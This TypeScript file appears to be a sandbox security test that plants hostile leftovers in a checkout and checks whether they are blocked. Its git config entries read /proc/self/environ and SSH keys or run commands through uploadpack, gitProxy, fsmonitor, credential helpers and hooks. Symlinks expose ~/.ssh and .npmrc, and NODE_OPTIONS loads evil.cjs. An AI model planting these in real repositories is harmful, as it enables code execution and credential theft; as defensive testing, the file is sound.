// What an earlier step of the same job has left where ours look: in the checkout's `.git`, in the user's settings, in ignored files.
import { appendFile, mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { honest, pwn } from './attacks-repository.ts';
import type { Hostile } from './types.ts';

const configure = (root: string, text: string): Promise<void> => appendFile(join(root, '.git', 'config'), text);
const told = (file: string): string => `const { readFileSync } = await import('node:fs'); return readFileSync('${file}', 'latin1');`;
/** A clone that says of every object it lacks that another repository will give it. */
const promised = (remote: string): string =>
  `[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = evil\n[remote "evil"]\n\tpromisor = true\n\tpartialCloneFilter = blob:none\n${remote}`;

export const planted: readonly Hostile[] = [
  {
    name: 'an ignore list that is the environment of our process',
    kind: 'git',
    plant: (root) => configure(root, '[core]\n\texcludesFile = /proc/self/environ\n'),
    attack: () => told('.git/info/exclude'),
  },
  {
    name: 'an ignore list that is a credential',
    kind: 'git',
    plant: (root, { home }) => configure(root, `[core]\n\texcludesFile = ${home}/.ssh/id_test\n`),
    attack: () => told('.git/info/exclude'),
  },
  {
    name: 'an ignore list that is a link to a credential',
    kind: 'git',
    plant: async (root, { home }) => {
      await rm(join(root, '.git/info/exclude'), { force: true });
      await mkdir(join(root, '.git/info'), { recursive: true });
      await symlink(`${home}/.ssh/id_test`, join(root, '.git/info/exclude'));
    },
    attack: () => told('.git/info/exclude'),
  },
  {
    name: 'borrowed objects that are the home',
    kind: 'git',
    plant: async (root, { home }) => {
      await mkdir(join(root, '.git/objects/info'), { recursive: true });
      await writeFile(join(root, '.git/objects/info/alternates'), `${home}/.ssh\n`);
    },
    attack: ({ home }) => told(`${home}/.ssh/id_test`),
    open: ['none'],
  },
  {
    name: 'a tree of files above the checkout',
    kind: 'git',
    plant: (root) => configure(root, '[core]\n\tworktree = ../../..\n'),
    attack: ({ home }) => told(`${home}/.ssh/id_test`),
  },
  {
    name: 'a missing object that a local command fetches',
    kind: 'git',
    plant: async (root, { canary }) => {
      await configure(root, promised(`\turl = ${root}\n\tuploadpack = "${pwn(canary)};"\n`));
      await writeFile(join(root, '.git/refs/tags/missing'), `${'1'.repeat(40)}\n`);
      await writeFile(join(root, '.git/refs/heads/missing'), `${'1'.repeat(40)}\n`);
    },
    green: '1'.repeat(40),
  },
  {
    name: 'a missing object that git’s own protocol fetches through a command',
    kind: 'git',
    plant: (root, { canary }) =>
      configure(root, `${promised('\turl = git://127.0.0.1/x\n')}[core]\n\tgitProxy = "${canary}/../proxy"\n`).then(async () => {
        await writeFile(join(canary, '..', 'proxy'), `#!/bin/sh\n${pwn(canary)}\n`, { mode: 0o755 });
      }),
    green: '2'.repeat(40),
  },
  {
    name: 'a command that lists the refs of borrowed objects',
    kind: 'git',
    plant: async (root, { canary }) => {
      await configure(root, `[core]\n\talternateRefsCommand = "${pwn(canary)};"\n`);
      await mkdir(join(root, '.git/objects/info'), { recursive: true });
      await writeFile(join(root, '.git/objects/info/alternates'), `${root}/.git/objects\n`);
    },
    turns: [honest, { text: 'Done.' }],
  },
  {
    name: 'settings in a file that is included',
    kind: 'git',
    files: ({ canary }) => ({
      'settings.ini': `[core]\n\tfsmonitor = "${pwn(canary)}"\n\thooksPath = hooks\n[diff]\n\texternal = "${pwn(canary)}"\n`,
      'hooks/post-checkout': `#!/bin/sh\n${pwn(canary)}\n`,
    }),
    plant: (root) => configure(root, '[include]\n\tpath = ../settings.ini\n'),
  },
  {
    name: 'a helper that is asked for the token',
    kind: 'git',
    plant: (root, { canary }) => configure(root, `[credential]\n\thelper = "!${pwn(canary)};"\n[core]\n\taskPass = "${canary}/../ask"\n`),
    turns: [honest, { text: 'Done.' }],
  },
  {
    name: 'another address for the remote, in the settings of the checkout and of the user',
    kind: 'git',
    plant: async (root, { home, tcp }) => {
      const elsewhere = `[url "http://127.0.0.1:${tcp}/"]\n\tinsteadOf = http://\n[http]\n\tproxy = http://127.0.0.1:${tcp}\n`;
      await configure(root, elsewhere);
      await writeFile(join(home, '.gitconfig'), elsewhere);
    },
    turns: [honest, { text: 'Done.' }],
  },
  {
    name: 'dependencies that are a link to the home',
    kind: 'files',
    files: () => ({ '.gitignore': 'node_modules\n' }),
    plant: (root, { home }) => symlink(`${home}/.ssh`, join(root, 'node_modules')),
    attack: () => told('node_modules/id_test'),
    open: ['none'],
  },
  {
    name: 'ignored files that are links to credentials',
    kind: 'files',
    files: () => ({ '.gitignore': 'state\n' }),
    plant: async (root, { home }) => {
      await mkdir(join(root, 'state'));
      await symlink(`${home}/.ssh`, join(root, 'state', 'folder'));
      await symlink(`${home}/.npmrc`, join(root, 'state', 'file'));
    },
    attack: () =>
      `const { readFileSync } = await import('node:fs'); const read = (f) => { try { return readFileSync(f, 'utf8'); } catch { return ''; } }; return read('state/file') + read('state/folder/id_test');`,
    open: ['none'],
  },
  {
    name: 'dependencies that later runs would load, changed by a test',
    kind: 'files',
    files: () => ({ '.gitignore': 'node_modules\n' }),
    plant: async (root) => {
      await mkdir(join(root, 'node_modules/dep'), { recursive: true });
      await writeFile(join(root, 'node_modules/dep/index.js'), 'export {};\n');
    },
    attack: () => `(await import('node:fs')).appendFileSync('node_modules/dep/index.js', '// pwned\\n'); return '';`,
    open: ['unshare', 'none'],
  },
  {
    name: 'settings for node in .env and beside it',
    kind: 'files',
    files: ({ canary }) => ({
      '.env': 'NODE_OPTIONS=--require ./evil.cjs\n',
      'evil.cjs': `require('node:fs').writeFileSync('${canary}/pwned', 'x');\n`,
      'node.config.json': '{"nodeOptions":{"require":["./evil.cjs"]}}\n',
      '.noderc': '--require ./evil.cjs\n',
    }),
  },
];
